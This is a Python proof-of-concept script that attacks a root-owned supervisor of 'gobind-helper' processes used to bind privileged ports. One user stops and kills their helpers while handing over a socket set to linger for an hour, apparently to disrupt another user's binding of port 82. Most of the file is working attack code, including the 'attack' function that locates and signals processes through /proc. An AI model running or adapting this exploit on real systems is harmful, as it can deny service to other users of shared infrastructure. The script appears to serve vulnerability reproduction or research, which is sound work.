"""Alice has her supervisor close a socket that lingers for an hour; Bob, under the
same supervisor of root's, binds port 82 meanwhile."""
import ctypes, errno, os, signal, socket, struct, sys, threading, time


def bind(fd, port):
    addr = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton("127.0.0.1"))
    libc = ctypes.CDLL(None, use_errno=True)
    return errno.errorcode[ctypes.get_errno()] if libc.bind(fd, addr, len(addr)) else "bound"


def helpers(uid):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/status") as f:
                status = f.read()
        except OSError:
            continue
        if "Name:\tgobind-helper\n" in status and f"Uid:\t{uid}\t{uid}\t" in status:
            yield int(pid)


def unsent(listener):
    """A connected socket with data that nobody reads, which lingers."""
    s = socket.socket()
    s.connect(listener.getsockname())
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    s.setblocking(False)
    try:
        while True:
            s.send(bytes(1 << 16))
    except BlockingIOError:
        return s.detach()


def attack(listener):
    """Ends the helper while the supervisor has the last descriptor of a socket."""
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        bind(s.fileno(), 80)
    fd, results = unsent(listener), []
    mine = list(helpers(61001))
    for pid in mine:
        os.kill(pid, signal.SIGSTOP)
    thread = threading.Thread(target=lambda: results.append(bind(fd, 80)))
    thread.start()
    time.sleep(0.2)
    os.close(fd)
    for pid in mine:
        os.kill(pid, signal.SIGKILL)
    return thread, results


def alice(go):
    os.setresgid(61001, 61001, 61001)
    os.setresuid(61001, 61001, 61001)
    listener = socket.create_server(("127.0.0.1", 0), backlog=100)
    for _ in range(5):
        thread, results = attack(listener)
        os.write(go, b"x")
        thread.join()
        print("alice", results[0], flush=True)


out, go = os.pipe()
if os.fork() == 0:
    alice(go)
    os._exit(0)
os.close(go)
os.setresgid(61002, 61002, 61002)
os.setresuid(61002, 61002, 61002)
while os.read(out, 1):
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        print("bob", bind(s.fileno(), 82), flush=True)
os.wait()
